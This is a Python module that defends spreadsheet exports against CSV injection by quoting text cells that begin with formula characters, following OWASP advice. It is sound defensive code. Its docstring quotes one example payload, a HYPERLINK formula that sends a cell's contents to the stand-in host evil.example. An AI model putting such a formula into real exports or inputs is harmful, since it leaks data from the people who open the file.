"""CSV cells that a spreadsheet opens as text, never as a formula (CSV injection).

A name such as `=HYPERLINK("http://evil.example/?"&A1,"x")` typed into the tool must not run when a coach
opens the export in Excel or LibreOffice. OWASP's recommendation ("CSV Injection", owasp.org): a cell that
starts with `=`, `+`, `-`, `@`, tab or carriage return gets a leading single quote, which spreadsheets
show as text; the csv module's quoting takes care of quotes and separators inside the cell.
Numbers are left alone (a negative number is data, not a formula): only text cells are rewritten.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """`value` as written to a CSV cell: text that a spreadsheet would read as a formula is quoted with '."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: dict[str, Any]) -> dict[str, Any]:
    return {key: safe_cell(value) for key, value in row.items()}
